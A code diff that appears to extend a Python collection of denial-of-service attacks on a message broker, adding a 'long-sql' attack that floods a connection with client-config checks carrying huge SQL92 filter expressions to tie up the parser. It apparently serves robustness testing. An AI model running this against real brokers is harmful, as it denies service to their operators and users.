@@ -1,5 +1,6 @@
 """Attacks by work: requests of one connection that take the broker long, each of them or all together."""
 
+import itertools
 from collections.abc import Iterable
 from contextlib import AsyncExitStack
 from typing import Any, Final
@@ -215,6 +216,17 @@ async def _check_expressions(target: Target) -> None:
     await _repeat(target, _check(1_500_000)[0], *_check(2_000) * 10)
 
 
+async def _parse_sql(target: Target) -> None:
+    """Each expression is another one, and as long as one may be."""
+    body = '{"clientId":"c","group":"G","subscriptionData":{"subString":"%s","topic":"T","expressionType":"SQL92"}}'
+    async with target.connect() as wire:
+        with trio.move_on_after(target.seconds):
+            for number in itertools.count(1000):
+                expression = f"a={number}" + " OR a=1" * 1160
+                await wire.send(request(RequestCode.CHECK_CLIENT_CONFIG, body=(body % expression).encode()))
+                await wire.next()
+
+
 async def _send_irregular_json(target: Target) -> None:
     def irregular(size: int) -> bytes:
         return b'{"a":{0:0},"b":[' + b"{0:0}," * (size // 6) + b"0]}"
@@ -244,5 +256,6 @@ ATTACKS: Final = (
     Attack(name="members-leaving", run=_join_and_leave),
     Attack(name="many-keys", run=_send_keys),
     Attack(name="long-expressions", run=_check_expressions),
+    Attack(name="long-sql", run=_parse_sql),
     Attack(name="irregular-json", run=_send_irregular_json),
 )
